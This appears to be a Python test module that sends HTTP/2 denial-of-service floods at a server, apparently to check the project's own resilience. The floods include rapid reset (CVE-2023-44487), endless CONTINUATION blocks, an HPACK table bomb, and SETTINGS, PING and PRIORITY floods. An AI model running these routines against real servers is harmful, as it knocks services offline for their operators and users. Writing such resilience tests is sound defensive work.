"""Attacks with frames of HTTP/2. Each function sends for a bounded time and returns flood.Sent."""

import struct

from tests.attacks import frames
from tests.attacks.flood import CLOSE, PAUSE, flood
from tests.attacks.frames import POLICY

BLOCK = 1 << 12  # streams in one prebuilt string
ACT_STREAM = POLICY + "ActStream"
OPENING = frames.PREFACE + frames.settings() + frames.window_update((1 << 31) - 1 - 65535)


def new_streams(path, reset):
    """Opens 2^19 streams; `reset`: and resets each at once."""
    first, again = frames.indexed_request(path)
    yield OPENING + frames.frame(frames.HEADERS, first, frames.END_HEADERS, 1)
    for start in range(1, 1 << 19, BLOCK):
        yield frames.repeated(again, start, BLOCK, reset)


def open_streams(address, seconds):
    """Opens 2^19 streams on a connection and holds them."""
    return flood(address, seconds, lambda: new_streams(ACT_STREAM, reset=False))


def rapid_reset(address, seconds):
    """Opens and resets streams (CVE-2023-44487)."""

    def script():
        yield from new_streams(ACT_STREAM, reset=True)
        yield CLOSE

    return flood(address, seconds, script)


def endless_block(address, seconds, more, start=b"", **options):
    """Sends a header block that begins with `start` and goes on with `more` again and again."""

    def script():
        yield OPENING + frames.frame(frames.HEADERS, frames.request(ACT_STREAM) + start, stream=1)
        while True:
            yield more

    return flood(address, seconds, script, **options)


def continuation(address, seconds):
    """Sends one endless header block of small headers (VU#421644)."""
    fields = frames.header("a", "b") * (frames.FRAME_BYTES // 6)
    return endless_block(address, seconds, frames.frame(frames.CONTINUATION, fields, stream=1) * 16)


def long_header_value(address, seconds):
    """Sends one endless header value over CONTINUATION frames, on four connections (CVE-2023-33953)."""
    value = b"\x00" + frames.text("x") + frames.integer(1 << 30, 7)
    more = frames.frame(frames.CONTINUATION, b"v" * frames.FRAME_BYTES, stream=1) * 16
    return endless_block(address, seconds, more, value, connections=4)


def empty_continuation(address, seconds):
    """Sends one endless header block of empty frames."""
    return endless_block(address, seconds, frames.frame(frames.CONTINUATION, stream=1) * 10_000)


def hpack_bomb(address, seconds):
    """Enters a header of 4 KB into the dynamic table and refers to it 16,000 times in each request."""
    big = frames.header("x-bomb", "b" * 4000, indexed=True)
    bomb = frames.request(ACT_STREAM) + b"\xbe" * (frames.FRAME_BYTES - 100)

    def script():
        first = frames.request(ACT_STREAM) + big
        yield OPENING + frames.frame(frames.HEADERS, first, frames.END_HEADERS, 1)
        for start in range(1, 1 << 20, 64):
            yield frames.repeated(bomb, start, 64)

    return flood(address, seconds, script, connections=4)


def table_sizes(address, seconds):
    """Changes the size of the dynamic table between 0 and 4096 at the start of each header block."""
    sizes = (frames.integer(0, 5, 0x20) + frames.integer(4096, 5, 0x20)) * 2000

    def script():
        yield OPENING
        for start in range(0, 1 << 20, 64):
            yield frames.repeated(sizes + frames.request(ACT_STREAM), start, 64)

    return flood(address, seconds, script)


def repeating(chunk, opening=OPENING):
    """Returns a script that sends `chunk` for ever."""

    def script():
        yield opening
        while True:
            yield chunk

    return script


def settings_flood(address, seconds):
    """Sends SETTINGS frames, each to be acknowledged, and reads nothing (CVE-2019-9515)."""
    return flood(address, seconds, repeating(frames.settings() * 10_000), connections=4, read=False)


def settings_changes(address, seconds):
    """Changes the table and window sizes again and again, and reads the acknowledgements."""
    change = b"".join(
        frames.settings(initial_window_size=size, header_table_size=size) for size in (0, 4096)
    )
    return flood(address, seconds, repeating(change * 5000))


def ping_flood(address, seconds):
    """Sends PING frames, each to be answered, and reads nothing (CVE-2019-9512)."""
    ping = frames.frame(frames.PING, b"12345678")
    return flood(address, seconds, repeating(ping * 10_000), connections=4, read=False)


def priority_flood(address, seconds):
    """Moves idle streams about in the tree of priorities."""
    moves = b"".join(
        frames.frame(
            frames.PRIORITY, struct.pack(">IB", 2 * (i * 7 % 5000) + 1, i % 256), stream=2 * i + 1
        )
        for i in range(5000)
        if i * 7 % 5000 != i
    )
    return flood(address, seconds, repeating(moves))


def window_update_flood(address, seconds):
    """Raises the window of the connection by one byte at a time."""
    opening = frames.PREFACE + frames.settings()
    return flood(address, seconds, repeating(frames.window_update(1) * 10_000, opening))


def empty_data_flood(address, seconds):
    """Sends DATA frames without data on an open call (CVE-2019-9518)."""
    opening = OPENING + frames.frame(
        frames.HEADERS, frames.request(frames.REFLECTION), frames.END_HEADERS, 1
    )
    return flood(address, seconds, repeating(frames.frame(frames.DATA, stream=1) * 10_000, opening))


def unknown_frames(address, seconds):
    """Sends frames of a type that does not exist, which a server has to ignore."""
    return flood(address, seconds, repeating(frames.frame(0xEE, b"x" * 8) * 10_000))


def refused_calls(address, seconds):
    """Calls a method that does not exist, as often as the server answers."""

    def script():
        block = frames.request("/no.such.Service/Method")
        flags = frames.END_HEADERS | frames.END_STREAM
        yield OPENING
        for start in range(0, 1 << 20, 100):
            yield frames.repeated(block, start, 100, flags=flags)
            yield PAUSE

    return flood(address, seconds, script, connections=4)
